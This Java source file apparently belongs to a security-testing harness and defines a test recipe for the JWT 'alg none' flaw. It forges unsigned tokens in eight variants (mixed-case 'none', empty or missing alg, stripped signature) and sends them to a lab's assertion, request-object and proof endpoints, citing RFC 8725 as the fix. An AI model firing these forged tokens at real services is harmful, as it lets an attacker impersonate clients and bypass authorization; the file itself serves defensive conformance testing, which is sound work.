package dev.countersign.attacker.recipe.jose;

import dev.countersign.attacker.play.About;
import dev.countersign.attacker.play.Attacker;
import dev.countersign.attacker.play.Goal;
import dev.countersign.attacker.play.Jwt;
import dev.countersign.attacker.play.Lab;
import dev.countersign.attacker.play.Need;
import dev.countersign.attacker.play.Play;
import dev.countersign.attacker.play.Recipe;
import java.io.IOException;
import java.util.List;

/** Messages without a signature. */
final class AlgNone implements Recipe {

  @Override
  public About about() {
    return About.of("J-01", "alg-none")
        .also("ATT-34")
        .by(Attacker.A1)
        .endangers(Goal.AUTHORIZATION, Goal.SESSION_INTEGRITY, Goal.NON_REPUDIATION)
        .needs(Need.ASSERTION)
        .stoppedBy("SP-5.4.1-1.3", "alg none is never accepted")
        .means("Anybody can write an assertion, a request object or a proof in a client's name.")
        .change(
            "Accept PS256, ES256 and EdDSA alone, and never let the message choose (RFC 8725"
                + " section 3.1).");
  }

  private static Variant none(String alg) {
    return Variant.of(
        "alg " + alg + " and no signature",
        jwt -> jwt.header("alg", alg).signedBy(_ -> new byte[0]));
  }

  private static List<Variant> variants() {
    return List.of(
        none("none"),
        none("None"),
        none("nOnE"),
        none("NONE"),
        none(""),
        Variant.of("alg none with the signature left in place", jwt -> jwt.header("alg", "none")),
        Variant.of("no alg", jwt -> jwt.withoutHeader("alg").signedBy(_ -> new byte[0])),
        Variant.of("the right alg and no signature", AlgNone::unsigned));
  }

  private static Jwt unsigned(Jwt jwt) {
    return jwt.signedBy(_ -> new byte[0]);
  }

  @Override
  public void play(Play play, Lab lab) throws IOException {
    Doors doors = new Doors(play, lab, "SP-5.4.1-1.3");
    doors.assertions(lab.asserting(), variants());
    if (doors.takesObjects()) {
      doors.objects(lab.signingRequests(), variants());
    }
    if (doors.takesProofs()) {
      doors.proofs(variants());
    }
  }
}
